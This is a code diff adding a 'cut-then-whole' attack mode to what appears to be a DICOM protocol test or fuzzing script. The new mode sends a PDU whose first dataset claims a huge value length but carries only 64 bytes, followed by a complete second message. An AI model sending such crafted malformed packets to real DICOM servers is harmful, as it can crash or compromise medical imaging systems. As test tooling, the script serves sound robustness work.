@@ -326,6 +326,19 @@ def main():
                    + b"\xff\xff" + b"\xff\xff\xfe\xff" + b"\x00\xe0" + b"\xff\xff\xff\xff" + deep)
         s, ctx = associate(port, ((1, CT, [EXPLICIT]),))
         return send_and_report(s, pdata(ctx[0], False, payload, fragment=len(payload)))
+    elif attack == "cut-then-whole":
+        # One PDU: the end of a data set whose last value claims 0xFFFFFFF0 bytes and brings
+        # 64, then a whole second message. Judged by the second, the first would be parsed.
+        s, ctx = associate(port)
+        head = dataset(CT, "1.2.3.9.78.1")
+        head = head[:head.rindex(struct.pack("<HH", 0x7FE0, 0x0010))]
+        cut = head + struct.pack("<HHI", 0x7FE0, 0x0010, 0xFFFFFFF0) + bytes(64)
+        body = b""
+        for command, payload in ((False, cut), (True, command_store(2, CT, "1.2.3.9.78.2")),
+                                 (False, dataset(CT, "1.2.3.9.78.2"))):
+            body += struct.pack(">IBB", len(payload) + 2, ctx[0], (1 if command else 0) | 2) + payload
+        first = pdata(ctx[0], True, command_store(1, CT, "1.2.3.9.78.1"))
+        return send_and_report(s, first + struct.pack(">BBI", 4, 0, len(body)) + body)
     elif attack == "offer":
         # offer NAME,NAME,...: one CT context offering these transfer syntaxes; prints the one
         # accepted, or the context's result.
